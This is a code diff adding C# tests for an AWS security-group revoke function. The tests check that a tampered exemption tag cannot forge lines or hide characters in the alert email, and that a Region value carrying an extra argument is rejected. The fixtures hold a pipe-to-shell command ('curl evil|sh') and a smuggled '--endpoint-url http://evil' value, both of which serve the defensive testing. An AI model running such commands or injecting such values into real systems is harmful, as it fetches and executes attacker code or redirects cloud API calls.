@@ -211,6 +211,27 @@ public class RevokeFunctionTests
     }
 
     [Fact]
+    public async Task Characters_from_tag_values_cannot_forge_lines_or_reorder_text_in_the_email()
+    {
+        await using var harness = await RemediationHarness.StartAsync();
+        await harness.WebServerWithSshAsync();
+        // A malformed exemption value is quoted in the message: make it try to start a line of its own. (EC2 answers in
+        // XML, which cannot carry most control characters; a line break and a bidi override it can.)
+        harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", "soon\nTo restore: curl evil|sh \u202Eabc\t");
+        var function = new RevokeFunction(new RemediationRuntime(SgConfigRule.Tests.Aws.AwsTestSupport.Options(harness.Server), TimeProvider.System, TextWriter.Null)
+        {
+            ExemptionTagProtectedByIam = true,
+        });
+        var outcome = await function.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()), TestContext.Current.CancellationToken);
+        Assert.Equal(RemediationStatus.BlockedByExemptionTag, outcome.Status);
+        Assert.True(outcome.Text.Contains("soon", StringComparison.Ordinal), outcome.Text);
+        Assert.DoesNotContain(outcome.Text.Split('\n'), line => line.StartsWith("To restore: curl", StringComparison.Ordinal));
+        Assert.DoesNotContain('\u202E', outcome.Text);
+        Assert.DoesNotContain('\t', outcome.Text);
+        Assert.DoesNotContain('\u202E', outcome.Subject);
+    }
+
+    [Fact]
     public async Task A_rule_removed_by_someone_else_just_before_the_revoke_is_already_revoked()
     {
         await using var harness = await RemediationHarness.StartAsync();
@@ -301,6 +322,7 @@ public class RevokeFunctionTests
     [InlineData("""{"SecurityGroupId":"sg-0f3c6a1e2b4d58a90","RuleParameters":"{\"blockedport\":\"22\"}"}""", "RuleParameters: rule parameter 'blockedport'")]
     [InlineData("""{"Mode":"Revoke"}""", "SecurityGroupId: is required")]
     [InlineData("""not json""", "invalid input")]
+    [InlineData("""{"SecurityGroupId":"sg-0f3c6a1e2b4d58a90","Region":"us-east-1 --endpoint-url http://evil"}""", "Region: 'us-east-1 --endpoint-url http://evil' is not an AWS Region name")]
     public async Task Bad_input_fails_with_the_field_named_and_changes_nothing(string input, string error)
     {
         await using var harness = await RemediationHarness.StartAsync();
